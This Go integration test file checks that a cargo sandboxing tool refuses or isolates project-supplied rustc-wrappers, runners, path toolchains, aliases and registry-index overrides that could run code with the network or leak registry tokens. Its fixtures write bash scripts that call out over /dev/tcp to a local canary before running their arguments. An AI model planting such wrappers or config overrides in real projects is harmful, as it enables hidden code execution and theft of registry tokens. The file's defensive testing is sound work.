package integration

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A project's .cargo/config.toml and rust-toolchain.toml are attacker input
// (issue 9 class 3, issue 14 case 3): a program they name must never run in the
// resolve and download steps, which have the network and the registry tokens.

// cargoEvilScript is a program a project names: it tells the canary (reachable
// only from a step that has the host's network) that it ran, says so on stderr,
// and then does the job it was named for (exec its arguments).
func cargoEvilScript(canary *regCanary, tag string) string {
	return fmt.Sprintf("#!/bin/bash\necho \"PBOX-%s $*\" >&2\n(echo \"%s $*\" >/dev/tcp/127.0.0.1/%d) 2>/dev/null\nexec \"$@\"\n", tag, tag, canary.Port)
}

// TestCargoProjectRustcWrapperOnlyOffline: a project's build.rustc-wrapper (cargo
// runs it for `rustc -vV` while fetching) is not run by the networked steps — the
// canary on the host's loopback hears nothing — yet the build, offline, honours it,
// and the project's data settings (source replacement, net.retry) still work.
func TestCargoProjectRustcWrapperOnlyOffline(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "crates.io")
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		writeFile(t, filepath.Join(b.Project, ".cargo", "config.toml"), reg.ConfigToml()+"\n[build]\nrustc-wrapper = \"./evil.sh\"\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "evil.sh"), cargoEvilScript(canary, "WRAPPER"), 0o755)
		chownTree(t, m, b.Home)
		r := b.cargo(db, "build")
		wantCode(t, r, 0, "cargo build with a project rustc-wrapper")
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the project's rustc-wrapper ran with the network: %q\n%s", got, r)
		}
		if !strings.Contains(r.Stdout+r.Stderr, "PBOX-WRAPPER") {
			t.Errorf("the offline build did not honour the project's rustc-wrapper\n%s", r)
		}
		out, err := exec.Command(filepath.Join(b.Project, "target", "debug", "proj")).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the built binary: %v %s\n%s", err, out, r)
		}
		if cfg, _ := os.ReadFile(filepath.Join(b.Project, ".cargo", "config.toml")); !strings.Contains(string(cfg), "rustc-wrapper") {
			t.Errorf("the project's config was changed:\n%s", cfg)
		}
	})
}

// TestCargoProjectRunner: a target runner outside the project is refused before
// anything runs (exit 2, file:line); one inside the project wraps `cargo run` in
// the offline build step.
func TestCargoProjectRunner(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "crates.io")
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		outside := filepath.Join(filepath.Dir(b.Home), "pbox-runner.sh")
		writeFile(t, outside, cargoEvilScript(canary, "RUNNER"), 0o755)
		cfg := filepath.Join(b.Project, ".cargo", "config.toml")
		writeFile(t, cfg, reg.ConfigToml()+"\n[target.'cfg(unix)']\nrunner = \""+outside+"\"\n", 0o644)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.cargo(db, "run")
		wantCode(t, r, 2, "a runner outside the project")
		line := strings.Count(reg.ConfigToml(), "\n") + 3
		wantStderr(t, r, fmt.Sprintf("config.toml:%d: target.cfg(unix).runner", line), "outside the project")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused run")
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the runner ran: %q", got)
		}

		writeFile(t, filepath.Join(b.Project, "run.sh"), cargoEvilScript(canary, "RUNNER"), 0o755)
		writeFile(t, cfg, reg.ConfigToml()+"\n[target.'cfg(unix)']\nrunner = \"./run.sh\"\n", 0o644)
		chownTree(t, m, b.Home)
		r = b.cargo(db, "run")
		wantCode(t, r, 0, "a runner inside the project")
		if all := r.Stdout + r.Stderr; !strings.Contains(all, "PBOX-RUNNER") || !strings.Contains(all, "hello dep") {
			t.Errorf("cargo run did not go through the project's runner\n%s", r)
		}
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the runner had the network: %q", got)
		}
	})
}

// TestCargoProjectToolchainFile: rust-toolchain.toml with `path =` (rustup would
// run the project's own cargo in the networked steps, with the tokens) is refused
// at file:line and the fake cargo never runs; a released channel works.
func TestCargoProjectToolchainFile(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "crates.io")
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		cargoFakeToolchain(t, b, canary)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.cargo(db, "build")
		wantCode(t, r, 2, "a path toolchain")
		wantStderr(t, r, "rust-toolchain.toml:3", "path")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused build")
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the project's cargo ran: %q", got)
		}

		writeFile(t, filepath.Join(b.Project, "rust-toolchain.toml"), "[toolchain]\nchannel = \"stable\"\n", 0o644)
		chownTree(t, m, b.Home)
		r = b.cargo(db, "build")
		wantCode(t, r, 0, "a toolchain file naming a channel")
		out, err := exec.Command(filepath.Join(b.Project, "target", "debug", "proj")).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the built binary: %v %s\n%s", err, out, r)
		}
	})
}

// cargoFakeToolchain plants tc/bin/cargo and rustc (which report to the canary)
// and a rust-toolchain.toml that names them by path.
func cargoFakeToolchain(t *testing.T, b *box, canary *regCanary) {
	t.Helper()
	for _, tool := range []string{"cargo", "rustc"} {
		writeFile(t, filepath.Join(b.Project, "tc", "bin", tool), fmt.Sprintf("#!/bin/bash\n(echo \"fake %s $*\" >/dev/tcp/127.0.0.1/%d) 2>/dev/null\necho PBOX-FAKE-%s >&2\nexit 1\n", tool, canary.Port, tool), 0o755)
	}
	writeFile(t, filepath.Join(b.Project, "rust-toolchain.toml"), "[toolchain]\n# the project's own\npath = \"./tc\"\n", 0o644)
}

// TestCargoProjectToolchainFileWithRustup is the same through rustup's proxies (as
// root: the toolchain is under /root), where bare cargo would run the fake one:
// refused; and a channel is pinned and builds.
func TestCargoProjectToolchainFileWithRustup(t *testing.T) {
	t.Parallel()
	m := requireMode(t, "root")
	if _, err := os.Stat("/root/.cargo/bin/cargo"); err != nil {
		skipf(t, "no rustup toolchain in /root/.cargo")
	}
	reg := cargoGreetRegistry(t)
	canary := regStartCanary(t)
	db := regMalDB(t, m, "crates.io")
	b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
	cargoFakeToolchain(t, b, canary)
	rustup := func() result {
		return invocation{Mode: m, Args: []string{"cargo", "build"}, Dir: b.Project, Home: b.Home,
			Env:     []string{"PHYLUM_BOX_DB=" + db, "PATH=/root/.cargo/bin:/usr/local/bin:/usr/bin:/bin", "RUSTUP_HOME=/root/.rustup"},
			Timeout: 5 * time.Minute}.exec(t)
	}
	r := rustup()
	wantCode(t, r, 2, "a path toolchain with rustup")
	wantStderr(t, r, "rust-toolchain.toml:3", "path")
	if got := canary.Got(); len(got) > 0 {
		t.Errorf("the project's cargo ran: %q", got)
	}
	writeFile(t, filepath.Join(b.Project, "rust-toolchain.toml"), "[toolchain]\nchannel = \"stable\"\n", 0o644)
	r = rustup()
	wantCode(t, r, 0, "a channel with rustup")
	out, err := exec.Command(filepath.Join(b.Project, "target", "debug", "proj")).CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
		t.Errorf("the built binary: %v %s\n%s", err, out, r)
	}
}

// TestCargoProjectConfigHostPassthrough: `cargo tree` passes through to the host,
// where it would run the project's rustc-wrapper with the user's environment and
// network: refused, and the wrapper never runs; with a data-only config it passes
// through and works.
func TestCargoProjectConfigHostPassthrough(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "crates.io")
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		r := b.cargo(db, "tree")
		wantCode(t, r, 0, "cargo tree with a data-only project config")
		if !strings.Contains(r.Stdout, "pbox_dep") {
			t.Errorf("cargo tree did not list the dependencies\n%s", r)
		}

		writeFile(t, filepath.Join(b.Project, ".cargo", "config.toml"), reg.ConfigToml()+"\n[build]\nrustc-wrapper = \"./evil.sh\"\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "evil.sh"), cargoEvilScript(canary, "WRAPPER"), 0o755)
		chownTree(t, m, b.Home)
		r = b.cargo(db, "tree")
		wantCode(t, r, 2, "cargo tree would run the project's wrapper on the host")
		wantStderr(t, r, "cargo tree runs outside the sandbox", "phylum-box run -- cargo tree")
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the project's wrapper ran on the host: %q", got)
		}
	})
}

// TestCargoProjectAlias: `cargo bb` with the project's `bb = "build"` is an
// unprotected build on the host if it passes through; it is planned: a malicious
// dependency blocks it, and a clean one builds in the sandbox.
func TestCargoProjectAlias(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		writeFile(t, filepath.Join(b.Project, ".cargo", "config.toml"), reg.ConfigToml()+"\n[alias]\nbb = \"build\"\n", 0o644)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.cargo(regMalDB(t, m, "crates.io", "pbox_dep"), "bb")
		wantCode(t, r, 3, "an alias of build with a malicious dependency")
		wantStderr(t, r, "pbox_dep", "MAL-2099")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked aliased build")

		r = b.cargo(regMalDB(t, m, "crates.io"), "bb")
		wantCode(t, r, 0, "an alias of build")
		out, err := exec.Command(filepath.Join(b.Project, "target", "debug", "proj")).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the built binary: %v %s\n%s", err, out, r)
		}
	})
}

// TestCargoProjectRegistryIndexAndUserToken: the user holds a token for registry
// "corp" (~/.cargo/credentials.toml); a project that names corp's index would get
// it sent wherever it points: refused, nothing contacted. When the user's own
// config names the index, the same project builds.
func TestCargoProjectRegistryIndexAndUserToken(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		db := regMalDB(t, m, "crates.io")
		b := regNewBox(t, m)
		writeFile(t, filepath.Join(b.Project, "Cargo.toml"), "[package]\nname = \"proj\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\npbox_greet = { version = \"1\", registry = \"corp\" }\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "src", "main.rs"), "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", 0o644)
		writeFile(t, filepath.Join(b.Project, ".cargo", "config.toml"), fmt.Sprintf("[registries.corp]\nindex = %q\n\n[net]\nretry = 0\n", reg.Index), 0o644)
		writeFile(t, filepath.Join(b.Home, ".cargo", "credentials.toml"), "[registries.corp]\ntoken = \""+b.Mark+"\"\n", 0o600)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.cargo(db, "build")
		wantCode(t, r, 2, "a project naming the index of the user's token")
		wantStderr(t, r, "config.toml:2: registries.corp.index", "you hold a token for registry corp")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused build")
		if hits := reg.Hits(); len(hits) > 0 {
			t.Errorf("the registry was contacted: %q", hits)
		}

		writeFile(t, filepath.Join(b.Home, ".cargo", "config.toml"), fmt.Sprintf("[registries.corp]\nindex = %q\n", reg.Index), 0o644)
		chownTree(t, m, b.Home)
		r = b.cargo(db, "build")
		wantCode(t, r, 0, "the user names corp's index")
		out, err := exec.Command(filepath.Join(b.Project, "target", "debug", "proj")).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the built binary: %v %s\n%s", err, out, r)
		}
	})
}

// TestCargoInstallIgnoresCrateConfig: a crate's own .cargo/config.toml (package
// input) names a rustc-wrapper; `cargo install` from a registry never reads it, nor
// does phylum-box's, whose fetch would otherwise run it with the network.
func TestCargoInstallIgnoresCrateConfig(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		canary := regStartCanary(t)
		reg.AddCrate("pbox_tool", "1.0.0", []string{"pbox_dep"}, map[string]string{
			"src/main.rs":        "fn main() { println!(\"tool {}\", pbox_dep::value()); }\n",
			".cargo/config.toml": "[build]\nrustc-wrapper = \"./evil.sh\"\n",
			"evil.sh":            cargoEvilScript(canary, "CRATE"),
		})
		db := regMalDB(t, m, "crates.io")
		b := cargoProject(t, m, reg, "fn main() {}\n")
		r := b.cargo(db, "install", "pbox_tool", "--root", "tools")
		wantCode(t, r, 0, "cargo install --root tools")
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the crate's rustc-wrapper ran: %q", got)
		}
		if strings.Contains(r.Stdout+r.Stderr, "PBOX-CRATE") {
			t.Errorf("the crate's rustc-wrapper ran\n%s", r)
		}
		out, err := exec.Command(filepath.Join(b.Project, "tools", "bin", "pbox_tool")).CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "tool dep" {
			t.Errorf("the installed binary: %v %s\n%s", err, out, r)
		}
	})
}
